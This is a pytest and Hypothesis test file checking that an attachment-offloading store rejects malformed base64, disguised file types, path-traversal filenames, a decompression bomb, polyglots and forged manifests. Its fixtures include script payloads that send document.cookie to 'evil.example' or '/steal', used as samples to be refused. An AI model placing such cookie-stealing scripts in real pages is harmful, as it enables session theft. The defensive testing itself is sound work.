"""Bad input through the whole store: each gets a clear typed error naming the problem, and nothing is
written (no record, no object left behind). Plus fuzzing of the scanner and the restorer."""

from __future__ import annotations

import asyncio
import json
import struct
import uuid
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import s3_bucket
from convex_offload.blobs.factory import open_bucket
from convex_offload.config import BucketConfig, OffloadConfig
from convex_offload.devservers.localstack import LocalStack
from convex_offload.errors import (
    AttachmentIntegrityError,
    AttachmentMissingError,
    AttachmentPolicyError,
    ConvexOffloadError,
    ForbiddenReferenceError,
    InvalidInputError,
    InvalidValueError,
    MalformedAttachmentError,
)
from convex_offload.offload.manifest import MANIFEST_KEY
from convex_offload.offload.offloader import Offloader
from convex_offload.offload.scan import scan
from convex_offload.offload.store import OffloadingStore
from convex_offload.store.models import Message, Resource, Thread
from convex_offload.store.store import ConvexStore
from media import b64, data_url, image_bytes

PNG = image_bytes("png", 40_000, seed=800)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>" * 300
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    + b" " * 30_000
)
JS = b"window.location='https://evil.example/'+document.cookie;\n" * 600


def part(data: Any, mime: str = "image/png", **extra: Any) -> dict[str, Any]:
    return {"type": "file", "mimeType": mime, "data": data, **extra}


def png_bomb(side: int = 20_000) -> bytes:
    """A real PNG whose header declares side x side one-bit pixels: tiny, but huge once decoded."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = b"\0" * (1 + side // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


BOMB = png_bomb()
POLYGLOT_TAIL = PNG + b"<script>fetch('https://evil.example/'+document.cookie)</script>"
POLYGLOT_HEAD = PNG[:33] + b"\x00\x00\x00\x20tEXt<html><body onload=alert(1)>" + PNG[33:]
PDF = image_bytes("pdf", 40_000, seed=803)
PDF_SCRIPT = PDF[:20] + b"\n% <script>alert(1)</script>\n" + PDF[20:]
JPEG = image_bytes("jpeg", 40_000, seed=804)
WEBP = image_bytes("webp", 40_000, seed=805)
URLSAFE = b64(PNG).replace("+", "-").replace("/", "_")
if b64(PNG) == URLSAFE:  # the fixture must hold a character base64url spells differently
    raise AssertionError("PNG fixture has no + or / in its base64")


def tool_result(result: Any) -> dict[str, Any]:
    return {
        "type": "tool-invocation",
        "toolInvocation": {
            "state": "result",
            "toolCallId": "c1",
            "toolName": "t",
            "args": {},
            "result": result,
        },
    }


def nested(depth: int, leaf: Any) -> Any:
    for _ in range(depth):
        leaf = {"n": leaf}
    return leaf


MALFORMED = MalformedAttachmentError
POLICY = AttachmentPolicyError
CASES: list[tuple[str, dict[str, Any], type[Exception], str]] = [
    # --- base64 that does not decode strictly ---------------------------------------------------
    (
        "malformed base64",
        {"parts": [part("iVBORw0KGgo" + "*" * 40_001)]},
        MALFORMED,
        r"/parts/0/data: not valid base64",
    ),
    (
        "MIME line breaks",
        {"parts": [part("\n".join(b64(PNG)[i : i + 76] for i in range(0, 76 * 40, 76)))]},
        MALFORMED,
        r"/parts/0/data: .*(multiple of 4|not valid)",
    ),
    (
        "non-canonical padding bits (2 bytes)",
        {"parts": [part("QUJ=")]},
        MALFORMED,
        r"/parts/0/data: .*not canonical",
    ),
    (
        "non-canonical padding bits (1 byte)",
        {"parts": [part("QR==")]},
        MALFORMED,
        r"/parts/0/data: .*not canonical",
    ),
    (
        "non-canonical tail of a real image",
        {"parts": [part(b64(PNG)[:-2] + "B=")]},
        MALFORMED,
        r"/parts/0/data: ",
    ),
    (
        "truncated by one character",
        {"parts": [part(b64(PNG)[:-1])]},
        MALFORMED,
        r"/parts/0/data: .*multiple of 4",
    ),
    (
        "truncated by two characters",
        {"parts": [part(b64(PNG)[:-2])]},
        MALFORMED,
        r"/parts/0/data: .*multiple of 4",
    ),
    (
        "truncated mid-quantum",
        {"parts": [part(b64(PNG)[:1001])]},
        MALFORMED,
        r"/parts/0/data: .*multiple of 4",
    ),
    ("padding left off", {"parts": [part("QUI")]}, MALFORMED, r"/parts/0/data: .*multiple of 4"),
    ("too much padding", {"parts": [part("QQ======")]}, MALFORMED, r"/parts/0/data: not valid base64"),
    ("padding in the middle", {"parts": [part("QQ==QUJD")]}, MALFORMED, r"/parts/0/data: not valid base64"),
    ("base64url alphabet", {"parts": [part(URLSAFE)]}, MALFORMED, r"/parts/0/data: not valid base64"),
    (
        "base64url in a data URL",
        {"parts": [{"type": "file", "url": "data:image/png;base64," + URLSAFE, "mediaType": "image/png"}]},
        MALFORMED,
        r"/parts/0/url: not valid base64",
    ),
    ("a space inside", {"parts": [part("QUJD RA==")]}, MALFORMED, r"/parts/0/data: "),
    ("a tab inside", {"parts": [part("QUJD\tRA==")]}, MALFORMED, r"/parts/0/data: "),
    ("a leading space", {"parts": [part(" " + b64(PNG)[:-1])]}, MALFORMED, r"/parts/0/data: "),
    (
        "malformed data URL in a url field",
        {"parts": [{"type": "file", "url": "data:image/png;base64,@@@@", "mediaType": "image/png"}]},
        MALFORMED,
        r"/parts/0/url: not valid base64",
    ),
    (
        "truncated data URL",
        {"parts": [{"type": "file", "url": data_url(PNG, "image/png")[:-3], "mediaType": "image/png"}]},
        MALFORMED,
        r"/parts/0/url: .*multiple of 4",
    ),
    (
        "malformed attachment URL",
        {"experimental_attachments": [{"url": "data:image/png;base64,AB=C", "contentType": "image/png"}]},
        MALFORMED,
        r"/experimental_attachments/0/url: not valid base64",
    ),
    (
        "malformed image part",
        {"parts": [{"type": "image", "image": "not*base64!", "mimeType": "image/png"}]},
        MALFORMED,
        r"/parts/0/image: ",
    ),
    (
        "malformed MCP image in a tool result",
        {"parts": [tool_result({"content": [{"type": "image", "data": "$$$$", "mimeType": "image/png"}]})]},
        MALFORMED,
        r"/parts/0/toolInvocation/result/content/0/data: not valid base64",
    ),
    # --- what the bytes are vs what they claim ----------------------------------------------------
    (
        "data URL lying about its type",
        {"parts": [{"type": "file", "url": data_url(JPEG, "image/png"), "mediaType": "image/png"}]},
        POLICY,
        r"/parts/0/url: declared type 'image/png' but the bytes are 'image/jpeg'",
    ),
    ("HTML disguised as an image", {"parts": [part(b64(HTML))]}, POLICY, r"/parts/0/data: .*'text/html'"),
    (
        "SVG disguised as a PNG",
        {"experimental_attachments": [{"url": data_url(SVG, "image/png")}]},
        POLICY,
        r"/experimental_attachments/0/url: .*'image/svg\+xml'",
    ),
    (
        "JavaScript disguised as a JPEG",
        {"parts": [part(b64(JS), "image/jpeg")]},
        POLICY,
        r"declared type 'image/jpeg'",
    ),
    (
        "a PNG declared as a PDF",
        {"parts": [part(b64(PNG), "application/pdf")]},
        POLICY,
        r"'application/pdf' but .*'image/png'",
    ),
    (
        "a PDF declared as a PNG",
        {"parts": [part(b64(PDF), "image/png")]},
        POLICY,
        r"'image/png' but .*'application/pdf'",
    ),
    (
        "a PNG declared as text",
        {"parts": [part(b64(PNG), "text/plain")]},
        POLICY,
        r"'text/plain' but .*'image/png'",
    ),
    (
        "HTML declared as plain text",
        {"parts": [part(b64(HTML), "text/plain")]},
        POLICY,
        r"'text/plain' but .*'text/html'",
    ),
    (
        "a JPEG declared as WebP",
        {"parts": [part(b64(JPEG), "image/webp")]},
        POLICY,
        r"'image/webp' but .*'image/jpeg'",
    ),
    (
        "a WebP declared as GIF",
        {"parts": [part(b64(WEBP), "image/gif")]},
        POLICY,
        r"'image/gif' but .*'image/webp'",
    ),
    (
        "a JPEG declared as PNG in an image part",
        {"parts": [{"type": "image", "image": b64(JPEG), "mimeType": "image/png"}]},
        POLICY,
        r"/parts/0/image: declared type 'image/png'",
    ),
    (
        "HTML in a tool result declared as an image",
        {
            "parts": [
                tool_result({"content": [{"type": "image", "data": b64(HTML), "mimeType": "image/png"}]})
            ]
        },
        POLICY,
        r"/parts/0/toolInvocation/result/content/0/data: .*'text/html'",
    ),
    ("zero-byte attachment", {"parts": [part("")]}, POLICY, r"/parts/0/data: zero-byte"),
    (
        "zero-byte data URL",
        {"parts": [{"type": "file", "url": "data:image/png;base64,", "mediaType": "image/png"}]},
        POLICY,
        r"/parts/0/url: zero-byte",
    ),
    # --- names that would be paths --------------------------------------------------------------
    (
        "filename with a slash",
        {"parts": [part(b64(PNG), filename="a/b.png")]},
        POLICY,
        r"/parts/0/data: .*path separator",
    ),
    (
        "filename with a backslash",
        {"parts": [part(b64(PNG), filename="..\\x.png")]},
        POLICY,
        r"path separator",
    ),
    (
        "filename climbing out",
        {"parts": [part(b64(PNG), filename="../../etc/passwd")]},
        POLICY,
        r"path separator",
    ),
    ("filename ..", {"parts": [part(b64(PNG), filename="..")]}, POLICY, r"/parts/0/data: .*relative path"),
    ("filename .", {"parts": [part(b64(PNG), filename=".")]}, POLICY, r"relative path"),
    ("filename starting with ..", {"parts": [part(b64(PNG), filename="..png")]}, POLICY, r"relative path"),
    (
        "filename with a NUL",
        {"parts": [part(b64(PNG), filename="a.png\x00.html")]},
        POLICY,
        r"control character",
    ),
    (
        "filename with a control character",
        {"parts": [part(b64(PNG), filename="a\x07.png")]},
        POLICY,
        r"control character",
    ),
    (
        "filename with a newline",
        {"parts": [part(b64(PNG), filename="a\n.png")]},
        POLICY,
        r"control character",
    ),
    ("filename with DEL", {"parts": [part(b64(PNG), filename="a\x7f.png")]}, POLICY, r"control character"),
    (
        "very long filename",
        {"parts": [part(b64(PNG), filename="x" * 400 + ".png")]},
        POLICY,
        r"over 255 bytes",
    ),
    ("long multi-byte filename", {"parts": [part(b64(PNG), filename="é" * 130)]}, POLICY, r"over 255 bytes"),
    (
        "attachment name with a slash",
        {
            "experimental_attachments": [
                {"name": "x/y.png", "contentType": "image/png", "url": data_url(PNG, "image/png")}
            ]
        },
        POLICY,
        r"/experimental_attachments/0/url: .*path separator",
    ),
    ("fileName with a NUL", {"parts": [part(b64(PNG), fileName="\x00")]}, POLICY, r"control character"),
    # --- shapes that would break a reader -------------------------------------------------------
    (
        "deeply nested lists",
        {"parts": [{"a": json.loads("[" * 80 + "1" + "]" * 80)}]},
        InvalidInputError,
        r"/parts/0/a/0/0/.*: nested deeper than 64",
    ),
    (
        "deeply nested objects",
        {"parts": [nested(80, "x")]},
        InvalidInputError,
        r"/parts/0/n/n/.*nested deeper than 64",
    ),
    (
        "deep nesting in a tool result",
        {"parts": [tool_result(nested(70, 1))]},
        InvalidInputError,
        r"/parts/0/toolInvocation/result/n/.*nested deeper than 64",
    ),
    (
        "a lone high surrogate in text",
        {"parts": [{"type": "text", "text": "hi \ud800 there"}]},
        InvalidValueError,
        r"/parts/0/text: .*lone surrogate",
    ),
    (
        "a lone low surrogate in tool args",
        {
            "parts": [
                {
                    "type": "tool-invocation",
                    "toolInvocation": {
                        "state": "call",
                        "toolCallId": "c",
                        "toolName": "t",
                        "args": {"q": "\udc00"},
                    },
                }
            ]
        },
        InvalidValueError,
        r"/parts/0/toolInvocation/args/q: .*lone surrogate",
    ),
    (
        "a lone surrogate in a field name",
        {"parts": [{"type": "text", "text": "x", "\ud83d": 1}]},
        InvalidValueError,
        r"field name: .*lone surrogate",
    ),
    (
        "ten thousand payloads in one message",
        {
            "parts": [
                {
                    "type": "file",
                    "url": f"data:image/png;base64,{b64(PNG[:60] + bytes([i % 256, i // 256]))}",
                    "mediaType": "image/png",
                }
                for i in range(10_000)
            ]
        },
        POLICY,
        r"10000 attachments in one record is over the limit of 1000",
    ),
    # --- bytes that are more than they seem ------------------------------------------------------
    (
        "a decompression bomb declared as an image",
        {"parts": [part(b64(BOMB))]},
        POLICY,
        r"/parts/0/data: a 20000x20000 image/png .*decompression bomb",
    ),
    (
        "a decompression bomb in a data URL",
        {"parts": [{"type": "file", "url": data_url(BOMB, "image/png"), "mediaType": "image/png"}]},
        POLICY,
        r"/parts/0/url: a 20000x20000",
    ),
    (
        "a PNG that ends as HTML (polyglot)",
        {"parts": [part(b64(POLYGLOT_TAIL))]},
        POLICY,
        r"/parts/0/data: .*polyglot",
    ),
    ("a PNG that opens as HTML (polyglot)", {"parts": [part(b64(POLYGLOT_HEAD))]}, POLICY, r"polyglot"),
    (
        "a PDF with a script in it (polyglot)",
        {"parts": [part(b64(PDF_SCRIPT), "application/pdf")]},
        POLICY,
        r"application/pdf also read as HTML",
    ),
]


@pytest.fixture
def plain_config(local_convex: Any, localstack: LocalStack) -> OffloadConfig:
    return OffloadConfig(
        convex_url=local_convex.url,
        convex_admin_key=local_convex.admin_key,
        buckets={
            "images": s3_bucket(
                localstack, "images", prefix=f"bad-{uuid.uuid4().hex[:8]}/", max_object_bytes=100_000
            )
        },
    )


@pytest.mark.parametrize(("name", "content", "error", "pattern"), CASES, ids=[c[0] for c in CASES])
async def test_bad_input_is_refused_and_nothing_is_written(
    plain_config: OffloadConfig,
    store: ConvexStore,
    localstack: LocalStack,
    uid: Callable[[str], str],
    name: str,
    content: dict[str, Any],
    error: type[Exception],
    pattern: str,
) -> None:
    message = Message(
        id=uid("m"), thread_id=uid("t"), resource_id="u", role="user", content={"format": 2, **content}
    )
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(error, match=pattern) as caught:
            await offloading.memory.save_messages([message])
    assert f"message {message.id}" in str(caught.value), f"{name}: the error names the record"
    assert await store.memory.list_messages_by_id([message.id]) == []
    prefix = plain_config.buckets["images"].prefix
    assert localstack.s3_client().list_objects_v2(Bucket="images", Prefix=prefix).get("KeyCount", 0) == 0


async def test_payload_over_the_buckets_max_size_is_refused(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    big = image_bytes("png", 300_000, seed=801)
    message = Message(
        id=uid("m"),
        thread_id=uid("t"),
        resource_id="u",
        role="user",
        content={"format": 2, "parts": [part(b64(big))]},
    )
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(AttachmentPolicyError, match=r"over bucket 'images'\'s limit of 100000"):
            await offloading.memory.save_messages([message])
    assert await store.memory.list_messages_by_id([message.id]) == []


async def test_metadata_keys_convex_refuses_fail_before_sending(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    thread = Thread(id=uid("t"), resource_id="u", metadata={"ok": {"$gt": 1}})
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(InvalidValueError, match=r"starts with a '\$'"):
            await offloading.memory.save_thread(thread)
        with pytest.raises(InvalidValueError, match="printable ASCII"):
            await offloading.memory.save_thread(thread.model_copy(update={"metadata": {"bad\nkey": 1}}))
    assert await store.memory.get_thread_by_id(thread.id) is None


async def test_forged_manifests_are_refused_on_write_and_on_read(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    thread = uid("t")
    async with OffloadingStore.connect(plain_config) as offloading:
        alice = Message(
            id=uid("m"),
            thread_id=thread,
            resource_id="alice",
            role="user",
            content={"format": 2, "parts": [part(b64(PNG))]},
        )
        await offloading.memory.save_messages([alice])
        [stored] = await store.memory.list_messages_by_id([alice.id])
        # Mallory copies Alice's stored content (URL and manifest) into a message of her own.
        theft = stored.model_copy(update={"id": uid("m"), "resource_id": "mallory"})
        with pytest.raises(ForbiddenReferenceError, match="tenant"):
            await offloading.memory.save_messages([theft])
        assert await store.memory.list_messages_by_id([theft.id]) == []
        # Written straight to Convex, it is still refused when read through the library.
        await store.memory.save_messages([theft])
        with pytest.raises(ForbiddenReferenceError, match="tenant"):
            await offloading.memory.list_messages_by_id([theft.id])
        outside = stored.model_copy(update={"id": uid("m")}, deep=True)
        outside.content["metadata"][MANIFEST_KEY]["refs"][0]["bucket"] = "somewhere-else"
        await store.memory.save_messages([outside])
        with pytest.raises(ForbiddenReferenceError, match="not configured"):
            await offloading.memory.list_messages_by_id([outside.id])


async def test_manifest_whose_sha256_does_not_match_the_object(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    async with OffloadingStore.connect(plain_config) as offloading:
        message = Message(
            id=uid("m"),
            thread_id=uid("t"),
            resource_id="u",
            role="user",
            content={"format": 2, "parts": [part(b64(PNG))]},
        )
        await offloading.memory.save_messages([message])
        [stored] = await store.memory.list_messages_by_id([message.id])
        ref = stored.content["metadata"][MANIFEST_KEY]["refs"][0]
        other = image_bytes("png", 40_000, seed=802)
        other_sha = __import__("hashlib").sha256(other).hexdigest()
        # A manifest that names another object of the same tenant, with the first one's size:
        # the key follows the sha, so it points at an object whose bytes do not hash to it.
        ref["sha256"] = other_sha
        ref["key"] = offloading.offloader.key_for("images", "u", other_sha)
        # ...and, as a forger must, the URL this library writes for that key, in the ref and its place.
        ref["url"] = await offloading.buckets["images"].reference_url(ref["key"])
        stored.content["parts"][0]["data"] = ref["url"]
        bucket = offloading.buckets["images"]
        await bucket.put(
            ref["key"],
            PNG,
            content_type="image/png",
            sha256=__import__("hashlib").sha256(PNG).hexdigest(),
            disposition=None,
        )
        tampered = stored.model_copy(update={"id": uid("m")})
        await store.memory.save_messages([tampered])
        async with OffloadingStore.connect(plain_config) as fresh:
            with pytest.raises(AttachmentIntegrityError, match="sha256"):
                await fresh.memory.list_messages_by_id([tampered.id])


# --- forged manifests, case by case -----------------------------------------------------------


async def stored_then_forged(
    config: OffloadConfig,
    store: ConvexStore,
    uid: Callable[[str], str],
    forge: Callable[[dict[str, Any]], None],
) -> Message:
    """A message saved through the library, then rewritten in Convex with a forged manifest."""
    async with OffloadingStore.connect(config) as offloading:
        message = Message(
            id=uid("m"),
            thread_id=uid("t"),
            resource_id="u",
            role="user",
            content={"format": 2, "parts": [part(b64(PNG))]},
        )
        await offloading.memory.save_messages([message])
    [stored] = await store.memory.list_messages_by_id([message.id])
    forged = stored.model_copy(update={"id": uid("m")}, deep=True)
    forge(forged.content)
    await store.memory.save_messages([forged])
    return forged


def manifest_of(content: dict[str, Any]) -> dict[str, Any]:
    manifest: dict[str, Any] = content["metadata"][MANIFEST_KEY]
    return manifest


async def test_a_manifest_with_ten_thousand_refs_is_refused(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str]
) -> None:
    # Too big for one Convex document, so it can only arrive as input: a record read raw and sent back.
    async with OffloadingStore.connect(plain_config) as offloading:
        message = Message(
            id=uid("m"),
            thread_id=uid("t"),
            resource_id="u",
            role="user",
            content={"format": 2, "parts": [part(b64(PNG))]},
        )
        await offloading.memory.save_messages([message])
        [stored] = await store.memory.list_messages_by_id([message.id])
        forged = stored.model_copy(update={"id": uid("m")}, deep=True)
        ref = manifest_of(forged.content)["refs"][0]
        manifest_of(forged.content)["refs"] = [{**ref, "path": f"/parts/{i}/data"} for i in range(10_000)]
        with pytest.raises(
            ForbiddenReferenceError, match=f"message {forged.id}: .*10,000 refs, over the limit"
        ):
            await offloading.memory.save_messages([forged])
        with pytest.raises(ForbiddenReferenceError, match=r"message x: .*10,000 refs"):
            await offloading.offloader.restore(
                forged.content, holder=("metadata",), tenant="u", record="message x"
            )
    assert await store.memory.list_messages_by_id([forged.id]) == []


@pytest.mark.parametrize("shape", ["duplicate", "overlapping spans"])
async def test_a_place_named_twice_in_a_manifest_is_refused(
    plain_config: OffloadConfig, store: ConvexStore, uid: Callable[[str], str], shape: str
) -> None:
    def forge(content: dict[str, Any]) -> None:
        refs = manifest_of(content)["refs"]
        if shape == "duplicate":
            refs.append(dict(refs[0]))
        else:
            refs[:] = [
                {**refs[0], "form": "embedded", "span": [0, 10]},
                {**refs[0], "form": "embedded", "span": [5, 20]},
            ]

    forged = await stored_then_forged(plain_config, store, uid, forge)
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(ForbiddenReferenceError, match=f"message {forged.id}: ref.? /parts/0/data"):
            await offloading.memory.list_messages_by_id([forged.id])


async def test_a_ref_to_our_own_key_in_another_bucket_finds_nothing_there(
    plain_config: OffloadConfig, store: ConvexStore, localstack: LocalStack, uid: Callable[[str], str]
) -> None:
    prefix = plain_config.buckets["images"].prefix
    two = plain_config.model_copy(
        update={
            "buckets": {
                **plain_config.buckets,
                "documents": s3_bucket(localstack, "documents", prefix=prefix),
            }
        }
    )
    async with OffloadingStore.connect(two) as offloading:
        documents = offloading.buckets["documents"]

        def forge(content: dict[str, Any]) -> None:
            ref = manifest_of(content)["refs"][0]
            ref["bucket"] = "documents"  # the same key (same prefix) in a bucket that never held it
            ref["url"] = f"s3://documents/{ref['key']}"
            content["parts"][0]["data"] = ref["url"]

        forged = await stored_then_forged(two, store, uid, forge)
        assert await documents.head(manifest_of(forged.content)["refs"][0]["key"]) is None
        with pytest.raises(AttachmentMissingError, match=f"message {forged.id} /parts/0/data: object"):
            await offloading.memory.list_messages_by_id([forged.id])


@pytest.mark.parametrize(
    ("metadata", "pattern"),
    [
        ({"$where": 1}, r"starts with a '\$'"),
        ({"ok": {"$gt": 1}}, r"starts with a '\$'"),
        ({"bad\nkey": 1}, r"printable ASCII"),
        ({"x" * 1025: 1}, r"over Convex's limit"),
    ],
    ids=["dollar", "nested dollar", "control character", "too long"],
)
async def test_resource_metadata_field_names_convex_refuses_fail_before_sending(
    plain_config: OffloadConfig,
    store: ConvexStore,
    uid: Callable[[str], str],
    metadata: dict[str, Any],
    pattern: str,
) -> None:
    resource = Resource(id=uid("r"), working_memory="# notes", metadata=metadata)
    async with OffloadingStore.connect(plain_config) as offloading:
        with pytest.raises(InvalidValueError, match=pattern):
            await offloading.memory.save_resource(resource)
    assert await store.memory.get_resource_by_id(resource.id) is None


@pytest.mark.parametrize(
    ("bucket_policy", "payload", "pattern"),
    [
        (
            {"allowed_types": ["image/*"]},
            part(b64(PDF), "application/pdf"),
            r"type 'application/pdf' is not allowed",
        ),
        (
            {"active_content": "refuse"},
            part(b64(SVG), "image/svg+xml"),
            r"active content \(image/svg\+xml\) is refused",
        ),
    ],
    ids=["type not allowed", "active content refused"],
)
async def test_what_a_bucket_does_not_accept_is_refused(
    plain_config: OffloadConfig,
    store: ConvexStore,
    uid: Callable[[str], str],
    bucket_policy: dict[str, Any],
    payload: dict[str, Any],
    pattern: str,
) -> None:
    bucket = plain_config.buckets["images"].model_copy(update=bucket_policy)
    # Everything goes to the bucket (what stays inline never meets a bucket's rules).
    config = plain_config.model_copy(update={"buckets": {"images": bucket}, "inline_threshold": 0})
    message = Message(
        id=uid("m"),
        thread_id=uid("t"),
        resource_id="u",
        role="user",
        content={"format": 2, "parts": [payload]},
    )
    async with OffloadingStore.connect(config) as offloading:
        with pytest.raises(AttachmentPolicyError, match=f"message {message.id} /parts/0/data: {pattern}"):
            await offloading.memory.save_messages([message])
    assert await store.memory.list_messages_by_id([message.id]) == []


# --- fuzzing ----------------------------------------------------------------------------------

json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.text(),
    st.sampled_from(
        [
            "data:image/png;base64,",
            "data:;base64,AAAA",
            "data:image/png;base64,@@@@",
            "https://x/y",
            b64(PNG)[:400],
        ]
    ),
)
json_tree = st.recursive(
    json_leaf,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(
            st.sampled_from(["data", "url", "image", "type", "mimeType", "text", "metadata", "x"])
            | st.text(max_size=5),
            children,
            max_size=4,
        ),
    ),
    max_leaves=20,
)


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(tree=json_tree)
def test_the_offloader_only_ever_raises_typed_errors(tmp_path: Path, tree: Any) -> None:
    config = OffloadConfig(
        buckets={"b": BucketConfig(provider="local", path=tmp_path / "b")}, inline_threshold=1
    )
    offloader = Offloader(config, {"b": open_bucket("b", config.buckets["b"])})
    scan(tree, min_chars=4, bare_min_chars=8)
    root = {"format": 2, "parts": [tree]}
    before = json.dumps(root)
    try:
        rewritten = asyncio.run(offloader.offload(root, holder=("metadata",), tenant="t", where="fuzz"))
    except ConvexOffloadError:
        return
    assert json.dumps(root) == before
    restored = asyncio.run(
        offloader.restore(json.loads(json.dumps(rewritten.root)), holder=("metadata",), tenant="t")
    )
    assert json.dumps(restored) == before


manifest_ref = st.fixed_dictionaries(
    {
        "path": st.text(max_size=20),
        "form": st.sampled_from(["base64", "data_url", "embedded", "other"]),
        "bucket": st.sampled_from(["b", "x", ""]),
        "key": st.text(max_size=80),
        "size": st.integers(min_value=-5, max_value=10**9),
        "sha256": st.text(alphabet="0123456789abcdef", min_size=0, max_size=64),
        "sniffed_type": st.text(max_size=10),
        "url": st.text(max_size=30),
    },
    optional={"span": st.lists(st.integers(), max_size=3), "header": st.text(max_size=10)},
)


@settings(
    max_examples=300,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(refs=st.lists(manifest_ref, max_size=3), extra=json_tree)
def test_the_restorer_refuses_forged_manifests_with_typed_errors(
    tmp_path: Path, refs: list[dict[str, Any]], extra: Any
) -> None:
    config = OffloadConfig(buckets={"b": BucketConfig(provider="local", path=tmp_path / "b")})
    offloader = Offloader(config, {"b": open_bucket("b", config.buckets["b"])})
    root = {"parts": [extra], "metadata": {MANIFEST_KEY: {"v": 1, "refs": refs}}}
    try:
        asyncio.run(offloader.restore(root, holder=("metadata",), tenant="t"))
    except ConvexOffloadError:
        return
    assert MANIFEST_KEY not in root.get("metadata", {}), "a manifest is either refused or consumed"


mastra_part = st.one_of(
    st.builds(lambda t: {"type": "text", "text": t}, st.text(max_size=40)),
    st.builds(
        lambda data, mime, name: {
            "type": "file",
            "mimeType": mime,
            "data": data,
            **({"filename": name} if name else {}),
        },
        st.sampled_from(
            [b64(PNG), b64(JPEG), b64(HTML), "", "AAA", "@@@@", "https://example.com/a.png", URLSAFE]
        ),
        st.sampled_from(["image/png", "image/jpeg", "application/pdf", "text/plain"]),
        st.sampled_from([None, "a.png", "../x", "a\x00b", "é" * 130]),
    ),
    st.builds(
        lambda url: {"type": "file", "url": url, "mediaType": "image/png"},
        st.sampled_from(
            [
                data_url(PNG, "image/png"),
                data_url(JPEG, "image/png"),
                "data:image/png;base64,",
                "data:;base64,@@",
            ]
        ),
    ),
    st.builds(tool_result, json_tree),
    st.builds(lambda t: {"type": "reasoning", "reasoning": t}, st.text(max_size=20)),
)
mastra_content = st.fixed_dictionaries(
    {"format": st.just(2), "parts": st.lists(mastra_part, max_size=4)},
    optional={
        "experimental_attachments": st.lists(
            st.builds(
                lambda u: {"url": u, "contentType": "image/png"},
                st.sampled_from([data_url(PNG, "image/png"), "https://x/y"]),
            ),
            max_size=2,
        ),
        "metadata": st.dictionaries(st.sampled_from(["a", "client", "$x"]), st.text(max_size=5), max_size=2),
    },
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(content=mastra_content)
def test_whole_mastra_messages_either_round_trip_or_fail_typed_with_nothing_written(
    plain_config: OffloadConfig, content: dict[str, Any]
) -> None:
    async def run() -> None:
        message = Message(
            id=f"h-{uuid.uuid4().hex[:12]}", thread_id="hyp", resource_id="u", role="user", content=content
        )
        async with OffloadingStore.connect(plain_config) as offloading:
            error: ConvexOffloadError | None = None
            try:
                await offloading.memory.save_messages([message])
            except ConvexOffloadError as exc:
                error = exc
            if error is not None:
                assert f"message {message.id}" in str(error), f"the error names the record: {error}"
                assert await offloading.store.memory.list_messages_by_id([message.id]) == []
                return
            assert await offloading.memory.list_messages_by_id([message.id]) == [message]

    asyncio.run(run())
